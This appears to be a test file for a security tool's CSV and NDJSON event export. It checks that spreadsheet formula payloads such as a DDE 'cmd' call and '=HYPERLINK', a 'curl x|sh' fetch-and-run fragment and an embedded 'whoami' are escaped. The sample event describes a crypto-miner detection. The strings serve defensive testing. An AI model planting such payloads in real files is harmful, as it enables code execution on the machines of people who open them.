import { describe, expect, it } from "vitest";
import { CSV_COLUMNS, csvCell, csvHeader, csvRows, exportContentType, exportFilename, ndjsonRows } from "./export-format";
import type { EventListItem } from "./types";

function event(overrides: Partial<EventListItem> = {}): EventListItem {
  return {
    id: "42", occurredAt: "2026-11-20T10:00:00.000Z", receivedAt: "2026-11-20T10:00:01.000Z", kind: "detections",
    type: "crypto_miner_execution", severity: "high", sourceFormat: "garnet", title: "xmrig started",
    agent: { id: "a1", name: "runner-1" }, hostname: "runner-1", cluster: null, namespace: null, node: null, pod: null,
    container: null, image: null, repository: "acme/api", workflow: "ci", processExe: "/tmp/xmrig", processComm: "xmrig",
    processArgs: "xmrig -o pool.minexmr.com:4444", processPid: 4242, processPpid: 4000, processUid: 0, parentExe: "/bin/bash",
    remoteAddress: "1.2.3.4", remotePort: 4444, remoteName: null, protocol: "tcp", domain: "pool.minexmr.com", filePath: null,
    action: null, outcome: null, policyName: null, flags: ["miner", "outbound"],
    ...overrides,
  };
}

/** A minimal RFC 4180 reader, to check that what we write reads back as the same cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"') {
      const end = closingQuote(text, i + 1);
      cell += text.slice(i + 1, end).replaceAll('""', '"');
      i = end + 1;
    } else if (text[i] === ",") {
      row.push(cell);
      cell = "";
      i += 1;
    } else if (text.startsWith("\r\n", i)) {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i += 2;
    } else {
      cell += text[i];
      i += 1;
    }
  }
  return rows;
}

function closingQuote(text: string, from: number): number {
  let i = from;
  while (i < text.length && (text[i] !== '"' || text[i + 1] === '"')) i += text[i] === '"' ? 2 : 1;
  if (i >= text.length) throw new Error("unterminated quoted cell");
  return i;
}

describe("csvCell", () => {
  it("quotes commas, quotes and line breaks as RFC 4180 says, and leaves plain text alone", () => {
    expect(csvCell("plain")).toBe("plain");
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell("line1\nline2")).toBe('"line1\nline2"');
    expect(csvCell("")).toBe("");
    expect(csvCell(null)).toBe("");
    expect(csvCell(0)).toBe("0");
  });

  it("neutralises text that a spreadsheet would run as a formula, but not numbers", () => {
    expect(csvCell("=HYPERLINK(\"http://x\")")).toBe('"\'=HYPERLINK(""http://x"")"');
    expect(csvCell("+1+1")).toBe("'+1+1");
    expect(csvCell("-c 'curl x|sh'")).toBe("'-c 'curl x|sh'");
    expect(csvCell("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvCell("\tcmd")).toBe("'\tcmd");
    expect(csvCell("a=b")).toBe("a=b");
    expect(csvCell(-1)).toBe("-1");
  });
});

describe("CSV export", () => {
  it("writes the header row with the agreed columns", () => {
    expect(csvHeader()).toBe(
      "id,occurredAt,severity,kind,type,sourceFormat,agent,hostname,cluster,namespace,pod,image,repository,workflow," +
        "processExe,processPid,processPpid,processUid,processArgs,parentExe,protocol,remoteAddress,remotePort,domain," +
        "filePath,action,outcome,policyName,flags,title\r\n",
    );
  });

  it("writes one CRLF-terminated row per event that reads back to the same values", () => {
    const nasty = event({ id: "43", processArgs: 'sh -c "echo a,b"\nwhoami', title: "=cmd|' /C calc'!A0", agent: null, flags: [] });
    const text = csvRows([event(), nasty]);
    const rows = parseCsv(csvHeader() + text);
    expect(rows).toHaveLength(3);
    const header = rows[0];
    const first = Object.fromEntries(header.map((h, i) => [h, rows[1][i]]));
    expect(first).toMatchObject({
      id: "42", agent: "runner-1", processPid: "4242", processUid: "0", remotePort: "4444", flags: "miner;outbound",
      cluster: "", processArgs: "xmrig -o pool.minexmr.com:4444", title: "xmrig started",
    });
    const second = Object.fromEntries(header.map((h, i) => [h, rows[2][i]]));
    expect(second).toMatchObject({ id: "43", agent: "", flags: "", processArgs: 'sh -c "echo a,b"\nwhoami', title: "'=cmd|' /C calc'!A0" });
    expect(rows.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
  });

  it("writes nothing for no events", () => {
    expect(csvRows([])).toBe("");
  });
});

describe("NDJSON export", () => {
  it("writes one complete EventListItem per line", () => {
    const events = [event(), event({ id: "43", processArgs: "a\nb" })];
    const lines = ndjsonRows(events).split("\n");
    expect(lines).toHaveLength(3);
    expect(lines[2]).toBe("");
    expect(lines.slice(0, 2).map((l) => JSON.parse(l))).toEqual(events);
  });
});

describe("export file names and types", () => {
  it("stamps the file name in UTC", () => {
    expect(exportFilename("csv", new Date("2026-11-23T09:05:07.123Z"))).toBe("vigil-events-20261123-090507.csv");
    expect(exportFilename("ndjson", new Date("2026-01-02T23:59:59Z"))).toBe("vigil-events-20260102-235959.ndjson");
    expect(exportContentType("csv")).toMatch(/^text\/csv/);
    expect(exportContentType("ndjson")).toMatch(/^application\/x-ndjson/);
  });
});
